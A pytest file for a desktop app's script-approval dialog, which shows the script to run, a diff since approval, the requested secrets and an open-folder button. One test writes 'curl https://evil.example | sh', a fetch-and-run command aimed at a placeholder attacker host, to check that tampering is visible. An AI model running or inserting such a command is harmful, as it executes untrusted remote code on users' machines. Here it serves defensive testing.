"""The approval dialog shows what will run: the script, the diff since approval, the
secrets, and a way to open the folder."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtCore import QTimer
from PySide6.QtWidgets import QApplication, QLabel, QPlainTextEdit

from gibberish.engine.core import Engine
from gibberish.engine.run_flow import Answer
from gibberish.trust import approved_copies
from gibberish.ui.approval.dialog import ApprovalDialog, ApprovalPrompter


def text(dialog: ApprovalDialog, name: str) -> str:
    widget = dialog.findChild(QPlainTextEdit, name) or dialog.findChild(QLabel, name)
    assert widget is not None, name
    return widget.toPlainText() if isinstance(widget, QPlainTextEdit) else widget.text()


def trust_through_the_dialog(engine: Engine, ref: str) -> None:
    def press_trust() -> None:
        dialog = next(
            w
            for w in QApplication.topLevelWidgets()
            if isinstance(w, ApprovalDialog) and w.isVisible()
        )
        dialog.always_button.click()

    prepared = engine.runs.prepare(ref)
    QTimer.singleShot(0, press_trust)
    assert ApprovalPrompter().ask(prepared) is Answer.ALWAYS
    engine.trust.approve_prepared(prepared)


def test_the_script_it_runs_is_shown(qtbot, engine: Engine) -> None:
    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
    qtbot.addWidget(dialog)
    assert "echo 'something broke' >&2" in text(dialog, "approval-script")


def test_a_changed_skill_shows_a_unified_diff_since_approval(
    qtbot, engine: Engine, skills_dir: Path
) -> None:
    trust_through_the_dialog(engine, "slow.fail")
    (skills_dir / "slow" / "fail.sh").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    (skills_dir / "slow" / "new.sh").write_text("#!/bin/sh\necho new\n")
    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
    qtbot.addWidget(dialog)
    diff = text(dialog, "approval-diff")
    assert "-echo 'something broke' >&2" in diff
    assert "+curl https://evil.example | sh" in diff
    assert "+++ now/new.sh" in diff and "+echo new" in diff


def test_without_a_kept_copy_the_dialog_says_so(qtbot, engine: Engine, skills_dir: Path) -> None:
    engine.trust.approve_prepared(
        engine.runs.prepare("slow.fail")
    )  # every approval path keeps a copy ...
    assert approved_copies.forget(skills_dir / "slow")  # ... which can be gone since
    (skills_dir / "slow" / "fail.sh").write_text("#!/bin/sh\nexit 9\n")
    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
    qtbot.addWidget(dialog)
    assert "No copy of the approved version" in text(dialog, "approval-diff")


def test_the_copy_is_bounded(tmp_path: Path) -> None:
    (tmp_path / "big.txt").write_text("x" * (approved_copies.MAX_FILE + 1))
    (tmp_path / "bin").write_bytes(b"\xff\xfe\x00")
    (tmp_path / "ok.sh").write_text("echo ok\n")
    approved_copies.keep(tmp_path, ["big.txt", "bin", "ok.sh"])
    assert approved_copies.approved(tmp_path) == {"ok.sh": "echo ok\n"}


def test_secrets_and_open_folder(qtbot, engine: Engine) -> None:
    prepared = engine.runs.prepare("hello.say_hello")
    dialog = ApprovalDialog(prepared)
    qtbot.addWidget(dialog)
    assert text(dialog, "approval-secrets") == "None"
    opened: list[Path] = []
    dialog.open_folder = opened.append
    dialog.folder_button.click()
    assert opened == [prepared.skill.directory]
    from msgspec.structs import replace

    with_secret = ApprovalDialog(replace(prepared, secrets=("GITHUB_TOKEN",)))
    qtbot.addWidget(with_secret)
    assert text(with_secret, "approval-secrets") == "GITHUB_TOKEN"


def test_the_script_is_syntax_highlighted(qtbot, engine: Engine) -> None:
    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
    qtbot.addWidget(dialog)
    view = dialog.findChild(QPlainTextEdit, "approval-script")
    block = view.document().firstBlock()
    coloured = set()
    while block.isValid():
        for fmt_range in block.layout().formats():
            coloured.add(block.text()[fmt_range.start : fmt_range.start + fmt_range.length])
        block = block.next()
    assert "'something broke'" in coloured  # the quoted string has its own colour
